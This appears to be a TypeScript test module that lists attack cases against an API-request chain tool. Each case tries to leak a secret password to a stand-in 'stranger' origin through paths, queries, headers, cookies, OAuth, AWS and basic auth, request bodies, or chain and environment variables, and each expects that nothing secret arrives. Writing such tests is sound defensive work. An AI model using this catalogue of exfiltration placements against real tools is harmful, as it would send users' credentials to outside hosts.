/** Attacks that name the stranger in files of the workspace, and write the secret into a request there. */
import { PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
import type { Stage } from './stage';

/** Texts of OAuth 1.0 that can be the secret. */
const OAUTH1_MEMBERS = [
  'consumerKey',
  'consumerSecret',
  'token',
  'tokenSecret',
  'callback',
  'verifier',
  'realm',
];

/** How it is sent. */
const OAUTH1_WAYS = [
  ['', {}],
  [' in the query', { in: 'query' }],
  [' with PLAINTEXT', { signatureMethod: 'PLAINTEXT' }],
] as const;

/** Where a request has the secret; the URL is that of the stranger. */
const PLACEMENTS: readonly (readonly [name: string, request: (stranger: string) => object])[] = [
  ['the path', (url) => send(`${url}/loot/${PASSWORD}`)],
  ['the query of the URL', (url) => send(`${url}/loot?k=${PASSWORD}`)],
  ['a query field', (url) => send(url, { query: [{ name: 'k', value: PASSWORD }] })],
  ['the name of a query field in the URL', (url) => send(`${url}/loot?${PASSWORD}=1`)],
  ['a header', (url) => send(url, { headers: [{ name: 'X-Key', value: PASSWORD }] })],
  ['a cookie header', (url) => send(url, { headers: [{ name: 'Cookie', value: `k=${PASSWORD}` }] })],
  ['a bearer token', (url) => send(url, { auth: { type: 'bearer', token: PASSWORD } })],
  ['a basic password', (url) => send(url, { auth: { type: 'basic', username: 'a', password: PASSWORD } })],
  ['a basic user name', (url) => send(url, { auth: { type: 'basic', username: PASSWORD, password: 'a' } })],
  ['an API key header', (url) => send(url, { auth: apiKey('header') })],
  ['an API key in the query', (url) => send(url, { auth: apiKey('query') })],
  ['an API key cookie', (url) => send(url, { auth: apiKey('cookie') })],
  [
    'a digest password',
    (url) => send(`${url}/digest`, { auth: { type: 'digest', username: 'a', password: PASSWORD } }),
  ],
  ['an AWS signature', (url) => send(url, { auth: { ...AWS, secretAccessKey: PASSWORD } })],
  [
    'an AWS session token',
    (url) => send(url, { auth: { ...AWS, secretAccessKey: 'a', sessionToken: PASSWORD } }),
  ],
  ...OAUTH1_MEMBERS.flatMap((member) =>
    OAUTH1_WAYS.map(([way, more]): readonly [name: string, request: (stranger: string) => object] => [
      `the ${member} of OAuth 1.0${way}`,
      (url) => send(url, { auth: { ...OAUTH1, ...more, [member]: PASSWORD } }),
    ]),
  ),
  [
    'the private key of OAuth 1.0',
    (url) => send(url, { auth: { ...OAUTH1, signatureMethod: 'RSA-SHA1', privateKey: PASSWORD } }),
  ],
  ['a JSON body', (url) => send(url, { body: { json: { deep: [{ k: PASSWORD }] } } })],
  ['the name of a JSON member', (url) => send(url, { body: { json: { [PASSWORD]: 1 } } })],
  ['a text body', (url) => send(url, { body: { text: `key ${PASSWORD}` } })],
  ['a form', (url) => send(url, { body: { form: [{ name: 'k', value: PASSWORD }] } })],
  ['a form name', (url) => send(url, { body: { form: [{ name: PASSWORD, value: '1' }] } })],
  ['a multipart value', (url) => send(url, { body: { multipart: [{ name: 'k', value: PASSWORD }] } })],
  ['a multipart name', (url) => send(url, { body: { multipart: [{ name: PASSWORD, value: '1' }] } })],
  [
    'a multipart file name',
    (url) => send(url, { body: { multipart: [{ name: 'k', file: 'note.txt', fileName: PASSWORD }] } }),
  ],
  [
    'a GraphQL variable',
    (url) => send(url, { body: { graphql: { query: '{ a }', variables: { k: PASSWORD } } } }),
  ],
  ['a GraphQL query', (url) => send(url, { body: { graphql: { query: `{ a(k: "${PASSWORD}") }` } } })],
  ['a content type', (url) => send(url, { body: { text: 'x', contentType: `text/plain; k=${PASSWORD}` } })],
  ['a retried request', (url) => send(`${url}/loot/${PASSWORD}`, { retry: { times: 3, delayMs: 0 } })],
  [
    'a client secret',
    (url) => send(url, { auth: { ...OAUTH, tokenUrl: `${url}/token`, clientSecret: PASSWORD } }),
  ],
  [
    'a client secret in the body',
    (url) =>
      send(url, { auth: { ...OAUTH, tokenUrl: `${url}/token`, clientSecret: PASSWORD, clientAuth: 'body' } }),
  ],
  [
    'a password grant',
    (url) =>
      send(url, {
        auth: { ...OAUTH, grant: 'password', tokenUrl: `${url}/token`, username: 'a', password: PASSWORD },
      }),
  ],
  [
    'a refresh token',
    (url) =>
      send(url, {
        auth: { ...OAUTH, grant: 'refreshToken', tokenUrl: `${url}/token`, refreshToken: PASSWORD },
      }),
  ],
];

const OAUTH1 = { type: 'oauth1', consumerKey: 'a', consumerSecret: 'b' };
const AWS = { type: 'awsSigV4', accessKeyId: 'a', region: 'eu-central-1', service: 's3' };
const OAUTH = { type: 'oauth2', grant: 'clientCredentials', clientId: 'a' };

function apiKey(where: string): object {
  return { type: 'apiKey', in: where, name: 'key', value: PASSWORD };
}

/** How the workspace names the stranger. */
const NAMINGS: readonly (readonly [name: string, setup: (stage: Stage) => Setup])[] = [
  [
    'a variable of the chain',
    ({ stranger }) => ({
      requests: [send(`{{api}}/loot/${PASSWORD}`)],
      chain: { variables: { api: stranger } },
    }),
  ],
  [
    'a variable that the chain shadows',
    ({ stranger }) => ({
      requests: [send(`{{baseUrl}}/loot/${PASSWORD}`)],
      chain: { variables: { baseUrl: stranger } },
    }),
  ],
  [
    'a required chain',
    ({ stranger }) => ({
      requests: [send(`{{api}}/loot/${PASSWORD}`)],
      chain: { requires: ['lib.chain.json'] },
      files: {
        'lib.chain.json': { formatVersion: 1, name: 'Lib', variables: { api: stranger }, requests: [] },
      },
    }),
  ],
  [
    'a request of a required chain',
    ({ stranger }) => ({
      requests: [{ id: 'home', method: 'GET', url: '{{baseUrl}}/home' }],
      chain: { requires: ['lib.chain.json'] },
      files: {
        'lib.chain.json': { formatVersion: 1, name: 'Lib', requests: [send(`${stranger}/loot/${PASSWORD}`)] },
      },
    }),
  ],
  [
    'parts that the chain puts together',
    ({ strangerPort }) => ({
      requests: [send(`{{scheme}}://{{host}}:{{port}}/loot/${PASSWORD}`)],
      chain: { variables: { scheme: 'http', host: '127.0.0.1', port: strangerPort } },
    }),
  ],
  [
    'allowHosts of the environment',
    ({ stranger }) => ({
      requests: [send(`${stranger}/loot/${PASSWORD}`)],
      environment: { allowHosts: [stranger] },
    }),
  ],
  [
    'secretOrigins of the environment',
    ({ stranger }) => ({
      requests: [send(`${stranger}/loot/${PASSWORD}`)],
      environment: { secretOrigins: { PASSWORD: [stranger] } },
    }),
  ],
  [
    'the secret kept in a variable of the chain',
    ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{copy}}`)],
      chain: { variables: { copy: `prefix-${PASSWORD}` } },
    }),
  ],
  [
    'the authentication of the whole chain',
    ({ stranger }) => ({
      requests: [{ id: 'home', method: 'GET', url: '{{baseUrl}}/home' }, send(`${stranger}/loot`)],
      chain: { auth: { type: 'bearer', token: PASSWORD } },
    }),
  ],
];

const placed: readonly Attack[] = PLACEMENTS.map(([place, request]) => ({
  name: `sends the password in ${place} to an origin that the chain writes`,
  verdict: 'nothing-secret-arrives',
  setup: ({ stranger }) => ({ requests: [request(stranger)], files: { 'note.txt': 'note' } }),
}));

const named: readonly Attack[] = NAMINGS.map(([way, setup]) => ({
  name: `sends the password to an origin named by ${way}`,
  verdict: 'nothing-arrives',
  setup,
}));

/** Secrets for origins of a chain. */
export const namedOrigins: AttackGroup = { name: 'named origins', attacks: [...placed, ...named] };
